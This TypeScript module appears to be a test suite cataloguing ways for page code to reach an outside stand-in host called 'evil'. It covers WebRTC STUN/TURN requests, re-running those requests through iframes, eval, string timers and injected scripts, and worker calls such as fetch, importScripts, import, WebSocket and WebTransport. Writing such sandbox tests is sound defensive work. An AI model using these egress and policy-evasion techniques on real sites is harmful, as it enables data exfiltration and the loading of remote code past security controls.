// Ways out by WebRTC, and from other realms: frames and workers.
import type { Vector } from "../arena/vector.ts";

/** Text that asks a STUN server, in whatever realm it runs; `CONNECTION` is its constructor. */
const stun = (connection: string) => `
  const pc = new (${connection})({ iceServers: [{ urls: "stun:" + evil.host + ":3478" }, { urls: "stun:" + evil.ip + ":" + evil.udp }] });
  pc.createDataChannel("x");
  pc.createOffer().then((offer) => pc.setLocalDescription(offer));
  window.hostileKeep = [...(window.hostileKeep ?? []), pc];`;

const rtc = (name: string, text: string): Vector => ({
  name,
  attack: new Function("evil", text) as Vector["attack"],
});

const servers = (list: string) => `
  const pc = new RTCPeerConnection({ iceServers: [${list}] });
  pc.createDataChannel("x");
  pc.createOffer().then((offer) => pc.setLocalDescription(offer));
  window.hostileKeep = [...(window.hostileKeep ?? []), pc];`;

/** Case 41. */
export const peers: readonly Vector[] = [
  rtc("STUN by name", servers('{ urls: "stun:" + evil.host + ":3478" }')),
  rtc("STUN by address", servers('{ urls: "stun:" + evil.ip + ":" + evil.udp }')),
  rtc("TURN over UDP", servers('{ urls: "turn:" + evil.ip + ":" + evil.udp, username: "u", credential: "c" }')),
  rtc("TURN over TCP", servers('{ urls: "turn:" + evil.host + ":3478?transport=tcp", username: "u", credential: "c" }')),
  rtc("TURN over TLS", servers('{ urls: "turns:" + evil.host + ":443?transport=tcp", username: "u", credential: "c" }')),
  {
    name: "webkitRTCPeerConnection",
    needs: () => "webkitRTCPeerConnection" in window,
    attack: new Function("evil", stun("webkitRTCPeerConnection")) as Vector["attack"],
  },
  rtc(
    "candidate by address",
    `const a = new RTCPeerConnection();
     const b = new RTCPeerConnection();
     a.createDataChannel("x");
     window.hostileKeep = [...(window.hostileKeep ?? []), a, b];
     (async () => {
       await a.setLocalDescription(await a.createOffer());
       await b.setRemoteDescription(a.localDescription);
       await b.setLocalDescription(await b.createAnswer());
       await a.setRemoteDescription(b.localDescription);
       await a.addIceCandidate({ candidate: "candidate:1 1 udp 2113937151 " + evil.ip + " " + evil.udp + " typ host", sdpMid: "0" });
     })();`,
  ),
];

const inline = (how: string, text: string): Vector => rtc(`WebRTC by ${how}`, text);
const quoted = (connection: string) =>
  `("const evil = " + JSON.stringify(evil) + ";" + ${JSON.stringify(stun(connection))})`;

/** Case 42. */
export const realms: readonly Vector[] = [
  inline(
    "srcdoc",
    `document.body.appendChild(document.createElement("iframe")).srcdoc = "<script>" + ${quoted("RTCPeerConnection")} + "<" + "/script>";`,
  ),
  inline(
    "a blob document",
    `document.body.appendChild(document.createElement("iframe")).src = URL.createObjectURL(new Blob(["<script>" + ${quoted("RTCPeerConnection")} + "<" + "/script>"], { type: "text/html" }));`,
  ),
  inline(
    "the window of an empty frame",
    `const frame = document.body.appendChild(document.createElement("iframe"));
     ${stun("frame.contentWindow.RTCPeerConnection")}`,
  ),
  inline(
    "the window of a written frame",
    `const frame = document.body.appendChild(document.createElement("iframe"));
     frame.srcdoc = "<p>x</p>";
     return new Promise((resolve) => { frame.onload = resolve; }).then(() => { ${stun("frame.contentWindow.RTCPeerConnection")} });`,
  ),
  inline("eval", `(0, eval)(${quoted("RTCPeerConnection")});`),
  inline("the constructor of functions", `new Function(${quoted("RTCPeerConnection")})();`),
  inline("a timer with text", `setTimeout("{" + ${quoted("RTCPeerConnection")} + "}");`),
  inline(
    "an onerror attribute",
    `const image = document.createElement("img");
     image.setAttribute("onerror", ${quoted("RTCPeerConnection")});
     image.src = "data:,x";
     document.body.append(image);`,
  ),
  inline(
    "an inline script",
    `const script = document.createElement("script");
     script.textContent = "{" + ${quoted("RTCPeerConnection")} + "}";
     document.body.append(script);`,
  ),
  inline(
    "a script in a data address",
    `document.body.appendChild(document.createElement("script")).src = "data:text/javascript," + encodeURIComponent("{" + ${quoted("RTCPeerConnection")} + "}");`,
  ),
  inline(
    "a script in a blob",
    `document.body.appendChild(document.createElement("script")).src = URL.createObjectURL(new Blob(["{" + ${quoted("RTCPeerConnection")} + "}"], { type: "text/javascript" }));`,
  ),
  inline(
    "a search for the constructor under any name",
    stun(`Object.values(Object.getOwnPropertyDescriptors(window))
      .map(({ value }) => value)
      .find((value) => typeof value === "function" && /RTCPeerConnection$/.test(value.name))`),
  ),
];

const worker = (name: string, body: string, options = "", needs?: () => boolean): Vector => ({
  name: `worker: ${name}`,
  ...(needs && { needs }),
  attack: new Function(
    "evil",
    `const text = "const evil = " + JSON.stringify(evil) + ";" + ${JSON.stringify(body)};
     const url = URL.createObjectURL(new Blob([text], { type: "text/javascript" }));
     window.hostileKeep = [...(window.hostileKeep ?? []), new Worker(url${options})];`,
  ) as Vector["attack"],
});

/** Case 43. */
export const workers: readonly Vector[] = [
  worker("fetch", 'fetch(evil.http + "/", { mode: "no-cors" });'),
  worker("XMLHttpRequest", 'const x = new XMLHttpRequest(); x.open("GET", evil.http + "/"); x.send();'),
  worker("importScripts", 'importScripts(evil.http + "/a.js");'),
  worker("import()", 'import(evil.http + "/a.js");', ', { type: "module" }'),
  worker("static import", '', ', { type: "module" }'),
  worker("WebSocket", 'new WebSocket("ws://" + evil.host);'),
  worker("EventSource", "new EventSource(evil.http);"),
  worker("WebTransport", "new WebTransport(evil.https);", "", () => "WebTransport" in window),
  worker(
    "worker in a worker",
    'new Worker(URL.createObjectURL(new Blob(["fetch(" + JSON.stringify(evil.http) + ")"])));',
  ),
  worker("FontFace", 'new FontFace("x", "url(" + evil.http + "/a.woff2)").load();', "", () => "FontFace" in window),
].map((vector) =>
  vector.name === "worker: static import"
    ? {
        ...vector,
        attack: new Function(
          "evil",
          `const url = URL.createObjectURL(new Blob(["import '" + evil.http + "/a.js';"], { type: "text/javascript" }));
           window.hostileKeep = [...(window.hostileKeep ?? []), new Worker(url, { type: "module" })];`,
        ) as Vector["attack"],
      }
    : vector,
);
